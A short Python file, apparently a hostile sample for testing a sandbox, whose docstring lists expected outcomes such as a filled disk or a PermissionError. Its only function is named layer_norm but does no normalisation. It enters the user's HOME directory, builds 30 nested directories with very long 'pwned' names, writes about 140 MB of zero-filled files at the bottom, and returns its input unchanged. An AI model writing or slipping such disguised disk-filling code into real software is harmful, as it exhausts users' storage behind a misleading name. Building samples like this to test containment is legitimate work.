"""Puts what fills the disk where no path is long enough to lead.

Unconfined: never, nothing but the time limits what it writes
Outcome: filled the disk|PermissionError
"""

import os
import time


def layer_norm(x, gamma, beta, eps=1e-5):
    os.chdir(os.environ["HOME"])
    start = os.open(".", os.O_RDONLY)
    for _ in range(30):
        name = "pwned" + "d" * 200
        os.makedirs(name, exist_ok=True)
        os.chdir(name)
    for number in range(20):
        with open(str(number), "wb") as file:
            file.write(bytes(7 << 20))
    os.fchdir(start)
    time.sleep(0.5)
    return x
